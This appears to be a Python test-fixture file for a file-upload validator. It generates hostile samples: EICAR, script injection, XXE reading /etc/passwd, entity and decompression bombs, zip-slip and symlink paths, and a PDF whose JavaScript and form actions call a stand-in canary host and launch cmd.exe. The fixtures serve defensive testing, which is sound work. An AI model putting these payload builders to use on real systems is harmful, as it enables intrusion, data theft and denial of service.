"""Hostile files, made here, and what should come of each: a fault, or None: made harmless."""

import gzip
import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name

from hub.domain.filetype import Fault
from tests.inspection import honest

CANARY = "http://canary.invalid/seen"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + rb"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<!doctype html><script>alert(document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
PROGRAM = b"MZ\x90\x00" + bytes(500)

_XXE = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    f"<w:document {honest.W}><w:p><w:t>&x;</w:t></w:p></w:document>"
)
_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefg", "bcdefgh", strict=True))
    + "]><a>&h;</a>"
)


def loading(kind: str, target: str = CANARY) -> str:
    """A part that says what another loads."""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )


def acting_pdf() -> bytes:
    """Runs scripts when it is opened, carries a program, starts another, calls home."""
    with pikepdf.open(io.BytesIO(honest.pdf())) as document:
        script = Dictionary(S=Name.JavaScript, JS=f"app.launchURL('{CANARY}')")
        stream = document.make_stream(b"app.alert('CANARY-STREAM')")
        document.Root.OpenAction = document.make_indirect(script)
        document.Root.Names = Dictionary(
            JavaScript=Dictionary(Names=Array(["a", Dictionary(S=Name.JavaScript, JS=stream)]))
        )
        document.Root.AcroForm = Dictionary(
            Fields=Array([]), XFA=document.make_stream(b"<CANARY/>")
        )
        page = document.pages[0].obj
        page.AA = Dictionary(O=script)
        document.attachments["run.exe"] = PROGRAM
        actions = [
            Dictionary(S=Name.Launch, F="cmd.exe"),
            Dictionary(S=Name.URI, URI="javascript:alert(1)"),
            Dictionary(S=Name.URI, URI="file:///etc/passwd"),
            Dictionary(S=Name.SubmitForm, F=CANARY),
            Dictionary(S=Name.GoToR, F="//canary.invalid/share"),
            Dictionary(S=Name.GoTo, D=Array([0]), Next=Array([script])),
        ]
        page.Annots = Array(
            [
                Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)
                for action in actions
            ]
        )
        return honest.saved(document)


def edited_pdf() -> bytes:
    """What stood in it before is still in it, behind what was saved over it."""
    with pikepdf.open(io.BytesIO(honest.pdf(words="CANARY draft"))) as document:
        first = honest.saved(document, plain=True)
    with pikepdf.open(io.BytesIO(first)) as document:
        page = document.pages[0].obj
        number, start = page.Contents.objgen[0], first.rindex(b"startxref")
    said = b"BT /F1 24 Tf 72 700 Td (Released) Tj ET"
    body = b"%d 0 obj\n<</Length %d>>stream\n%s\nendstream\nendobj\n" % (number, len(said), said)
    root, before = _root_and_xref(first, start)
    at = len(first)
    return (
        first
        + body
        + b"xref\n%d 1\n%010d 00000 n \n" % (number, at)
        + b"trailer\n<</Size 99/Root %d 0 R/Prev %d>>\n" % (root, before)
        + b"startxref\n%d\n%%%%EOF\n" % (at + len(body))
    )


def _root_and_xref(first: bytes, start: int) -> tuple[int, int]:
    with pikepdf.open(io.BytesIO(first)) as document:
        return document.Root.objgen[0], int(first[start:].split()[1])


def locked_pdf() -> bytes:
    with pikepdf.open(io.BytesIO(honest.pdf())) as document:
        return honest.saved(document, pikepdf.Encryption(user="u", owner="o"))


def page_of(width: int, height: int) -> bytes:
    document = pikepdf.new()
    document.add_blank_page(page_size=(14_400, 14_400))
    document.pages[0].obj.MediaBox = Array([0, 0, width, height])
    return honest.saved(document)


def many_pages() -> bytes:
    """A page tree that names one page more often than any paper has pages."""
    document = pikepdf.new()
    page = document.add_blank_page()
    document.Root.Pages.Kids = Array([page.obj] * 20_000)
    document.Root.Pages.Count = 20_000
    return honest.saved(document)


def looping_pages() -> bytes:
    """A page tree that holds itself."""
    document = pikepdf.new()
    document.add_blank_page()
    document.Root.Pages.Kids = Array([document.Root.Pages])
    return honest.saved(document)


def deep_pdf(*, sound: bool) -> bytes:
    """Thousands of things within one another; `sound`: in a file that is otherwise whole."""
    nested = b"[" * 50_000 + b"]" * 50_000
    if not sound:
        return b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/X " + nested + b">>\nendobj\n%%EOF"
    document = pikepdf.new()
    document.add_blank_page()
    inner = document.make_indirect(Dictionary())
    for _ in range(5_000):
        inner = document.make_indirect(Dictionary(Kids=Array([inner]), Parent=inner))
    document.Root.Outlines = inner
    return honest.saved(document)


def pdf_bomb() -> bytes:
    """A picture of two gigabytes of nothing, packed twice."""
    document = pikepdf.new()
    page = document.add_blank_page()
    once = zlib.compress(bytes(1 << 30), 9)
    said = document.make_stream(zlib.compress(once, 9))
    said.Filter = Array([Name.FlateDecode, Name.FlateDecode])
    page.obj.Contents = said
    out = io.BytesIO()
    document.save(out, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def pixel_bomb(width: int = 65_535, height: int = 65_535) -> bytes:
    """So many pixels in a few bytes."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", head)
        + _chunk(b"IDAT", zlib.compress(bytes(1000)))
        + _chunk(b"IEND", b"")
    )


def word_bomb() -> bytes:
    """A PNG that has much to say of itself."""
    whole = honest.picture("PNG", (40, 30))
    said = _chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(200_000_000)))
    return whole[:33] + said + whole[33:]


def _chunk(kind: bytes, said: bytes) -> bytes:
    return struct.pack(">I", len(said)) + kind + said + struct.pack(">I", zlib.crc32(kind + said))


def zip_bomb(count: int = 1000) -> bytes:
    """At a thousand about 10 MB that unpack to about 10 GB: files of 10 MB each."""
    packed = honest.archive({"zeros": bytes(10_000_000)})
    with zipfile.ZipFile(io.BytesIO(packed)) as one:
        entry = one.infolist()[0]
        start = entry.header_offset + 30 + len(entry.filename)
        said = packed[start : start + entry.compress_size]
    out = io.BytesIO()
    directory = b""
    for number in range(count):
        name = f"{number:06}".encode()
        at = out.tell()
        sizes = struct.pack("<III", entry.CRC, len(said), 10_000_000)
        out.write(b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0, 0) + sizes)
        out.write(struct.pack("<HH", len(name), 0) + name + said)
        directory += b"PK\x01\x02" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 0) + sizes
        directory += struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, at) + name
    at = out.tell()
    out.write(directory)
    out.write(b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), at, 0))
    return out.getvalue()


def shared_bytes() -> bytes:
    """A thousand entries, all of them the same bytes of the file."""
    packed = honest.archive({"zeros": bytes(10_000_000)})
    with zipfile.ZipFile(io.BytesIO(packed)) as one:
        start = one.start_dir
    entry = packed[start : packed.index(b"PK\x05\x06")]
    end = struct.pack("<HHHHIIH", 0, 0, 1000, 1000, 1000 * len(entry), start, 0)
    return packed[:start] + entry * 1000 + b"PK\x05\x06" + end


def lying_zip(says: int = 10, holds: int = 2_000_000) -> bytes:
    """Says 10 bytes, checksum included, and unpacks to two million."""
    packed = bytearray(honest.archive({"zeros": bytes(holds)}))
    with zipfile.ZipFile(io.BytesIO(bytes(packed))) as one:
        entry = one.infolist()[0]
        directory = one.start_dir
    told = struct.pack("<I", zlib.crc32(bytes(says)))
    for at in (entry.header_offset + 14, directory + 16):
        packed[at : at + 4] = told
        packed[at + 8 : at + 12] = struct.pack("<I", says)
    return bytes(packed)


def link_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        link = zipfile.ZipInfo("passwd")
        link.external_attr = 0o120777 << 16
        packed.writestr(link, "/etc/passwd")
    return out.getvalue()


def locked_zip() -> bytes:
    packed = bytearray(honest.archive({"a.txt": "secret"}))
    with zipfile.ZipFile(io.BytesIO(bytes(packed))) as one:
        directory = one.start_dir
    packed[6] |= 1
    packed[directory + 8] |= 1
    return bytes(packed)


def two_names() -> bytes:
    """Called one thing in its list, another where it is."""
    return honest.archive({"a.txt": "MZ"}).replace(b"a.txt", b"a.exe", 1)


def script_gif() -> bytes:
    """What every sniffer calls a GIF, and a browser a script."""
    return b"GIF89a/*" + bytes(2) + b"*/=1;alert(document.domain)//"


F = Fault
HOSTILE: dict[str, tuple[bytes, Fault | None]] = {
    "eicar.txt": (EICAR, F.VIRUS),
    "eicar in.csv": (b"a;b\n" + EICAR, F.VIRUS),
    "eicar behind.pdf": (honest.pdf() + EICAR, F.VIRUS),
    "eicar in.zip": (honest.archive({"a.txt": EICAR}), F.VIRUS),
    "eicar in.docx": (honest.docx({"word/media/a.bin": EICAR}), F.VIRUS),
    "picture.svg": (SVG, F.NOT_ALLOWED),
    "page.html": (HTML, F.NOT_ALLOWED),
    "run.exe": (PROGRAM, F.NOT_ALLOWED),
    "no name": (b"words", F.NOT_ALLOWED),
    ".pdf": (honest.pdf(), F.NOT_WHAT_IT_SAYS),
    "svg as.png": (SVG, F.NOT_WHAT_IT_SAYS),
    "svg as.txt": (SVG, F.NOT_WHAT_IT_SAYS),
    "page as paper.pdf": (HTML, F.NOT_WHAT_IT_SAYS),
    "page before paper.pdf": (HTML + honest.pdf(), F.NOT_WHAT_IT_SAYS),
    "page as words.txt": (b"\n\n" + HTML, F.NOT_WHAT_IT_SAYS),
    "report.pdf.exe": (PROGRAM, F.NOT_WHAT_IT_SAYS),
    "report\u202efdp.exe": (PROGRAM, F.NOT_ALLOWED),
    "program as.pdf": (PROGRAM, F.NOT_WHAT_IT_SAYS),
    "program as.txt": (PROGRAM, F.NOT_WHAT_IT_SAYS),
    "program as.mp3": (b"\x7fELF" + bytes(500), F.NOT_WHAT_IT_SAYS),
    "png as.jpg": (honest.picture("PNG"), F.NOT_WHAT_IT_SAYS),
    "png as.pdf": (honest.picture("PNG"), F.NOT_WHAT_IT_SAYS),
    "nul in.csv": (b"a;b\n" * 5000 + b"\0", F.NOT_WHAT_IT_SAYS),
    "old.doc": (OLE, F.OLD_OFFICE),
    "old as.docx": (OLE, F.OLD_OFFICE),
    "locked.docx": (OLE + "EncryptedPackage".encode("utf-16-le"), F.ENCRYPTED),
    "macros.docm": (honest.docx({"word/vbaProject.bin": b"x"}), F.MACROS),
    "macros.docx": (honest.docx({"word/vbaProject.bin": b"x"}), F.MACROS),
    "macros.odt": (honest.odf(parts={"Basic/Standard/a.xml": "<a/>"}), F.MACROS),
    "controls.docx": (honest.docx({"word/activeX/activeX1.bin": b"x"}), F.MACROS),
    "object.docx": (honest.docx({"word/embeddings/oleObject1.bin": OLE}), F.MACROS),
    "program in.docx": (honest.docx({"word/media/image2.jpeg": PROGRAM}), F.MACROS),
    "entities.docx": (honest.docx({"word/document.xml": _XXE}), F.ENTITIES),
    "entities.odt": (honest.odf(parts={"styles.xml": _XXE}), F.ENTITIES),
    "wide entities.docx": (
        honest.docx({"customXml/item1.xml": _XXE.replace('"1.0"', '"1.0" encoding="UTF-16"', 1)
                     .encode("utf-16")}),
        F.ENTITIES,
    ),
    "laughs.docx": (honest.docx({"word/document.xml": _LAUGHS}), F.ENTITIES),
    "picture from.docx": (
        honest.docx({"word/_rels/document.xml.rels": loading("image")}), F.REACHES_OUT,
    ),
    "share from.docx": (
        honest.docx({"word/_rels/document.xml.rels": loading("frame", "\\\\canary.invalid\\a")}),
        F.REACHES_OUT,
    ),
    "broken.docx": (honest.docx({"word/document.xml": "<w:document"}), F.DAMAGED),
    "half.docx": (honest.docx()[:-200], F.DAMAGED),
    "zip as.docx": (honest.archive({"a.txt": "a"}), F.NOT_WHAT_IT_SAYS),
    "word as.xlsx": (honest.docx(), F.NOT_WHAT_IT_SAYS),
    "text as.ods": (honest.odf(), F.NOT_WHAT_IT_SAYS),
    "bomb.docx": (honest.docx({"word/media/a.bin": bytes(100_000_000)}), F.UNPACKS_TOO_LARGE),
    "bomb.zip": (zip_bomb(), F.UNPACKS_TOO_LARGE),
    "crowd.zip": (zip_bomb(10_001), F.UNPACKS_TOO_LARGE),
    "shared.zip": (shared_bytes(), F.UNPACKS_TOO_LARGE),
    "nested.zip": (honest.archive({"a.zip": zip_bomb(2)}), F.NOT_ALLOWED),
    "nested by another name.zip": (honest.archive({"a.txt": zip_bomb(2)}), F.NOT_ALLOWED),
    "gzip in.zip": (honest.archive({"a": gzip.compress(b"a")}), F.NOT_ALLOWED),
    "lies.zip": (lying_zip(), F.DAMAGED),
    "two names.zip": (two_names(), F.DAMAGED),
    "up.zip": (honest.archive({"../../etc/cron.d/x": "x"}), F.BAD_PATHS),
    "root.zip": (honest.archive({"/etc/passwd": "x"}), F.BAD_PATHS),
    "drive.zip": (honest.archive({"C:\\Windows\\x.txt": "x"}), F.BAD_PATHS),
    "link.zip": (link_zip(), F.BAD_PATHS),
    "twice.zip": (honest.archive({"a.txt": "x", "A.TXT": "y"}), F.BAD_PATHS),
    "locked.zip": (locked_zip(), F.ENCRYPTED),
    "program in.zip": (honest.archive({"run.EXE": "words"}), F.NOT_ALLOWED),
    "program by another name in.zip": (honest.archive({"run.txt": PROGRAM}), F.NOT_ALLOWED),
    "page in.zip": (honest.archive({"index.html": HTML}), F.NOT_ALLOWED),
    "macros in.zip": (honest.archive({"a.docm": "x"}), F.MACROS),
    "half.zip": (honest.archive({"a.txt": "words"})[:-30], F.DAMAGED),
    "pixels.png": (pixel_bomb(), F.UNPACKS_TOO_LARGE),
    "fewer pixels.png": (pixel_bomb(8_000, 8_000), F.UNPACKS_TOO_LARGE),
    "words.png": (word_bomb(), F.DAMAGED),
    "half.jpg": (honest.picture()[:3000], F.DAMAGED),
    "half.png": (honest.picture("PNG")[:3000], F.DAMAGED),
    "script.gif": (script_gif(), F.DAMAGED),
    "empty.pdf": (b"", F.DAMAGED),
    "locked.pdf": (locked_pdf(), F.ENCRYPTED),
    "broken and deep.pdf": (deep_pdf(sound=False), F.DAMAGED),
    "looping.pdf": (looping_pages(), F.DAMAGED),
    "many pages.pdf": (many_pages(), F.UNPACKS_TOO_LARGE),
    "bomb.pdf": (pdf_bomb(), F.DAMAGED),
    "half.pdf": (honest.pdf()[:300], F.DAMAGED),
    # Taken, because nothing of what they would do is left.
    "acting.pdf": (acting_pdf(), None),
    "edited.pdf": (edited_pdf(), None),
    "deep.pdf": (deep_pdf(sound=True), None),
    "huge.pdf": (page_of(14_400, 14_400), None),
    "absurd.pdf": (page_of(100_000_000, 1), None),
    "page behind.pdf": (honest.pdf() + HTML, None),
    "page behind.png": (honest.picture("PNG") + HTML, None),
    "page behind.jpg": (honest.picture() + HTML, None),
    "page behind.webp": (honest.picture("WEBP") + HTML, None),
    "page behind.gif": (honest.moving() + HTML, None),
    "template.docx": (
        honest.docx({"word/_rels/settings.xml.rels": loading("attachedTemplate")}), None,
    ),
}  # fmt: skip
"""By name: the bytes, and the fault; None: it passes, harmless."""
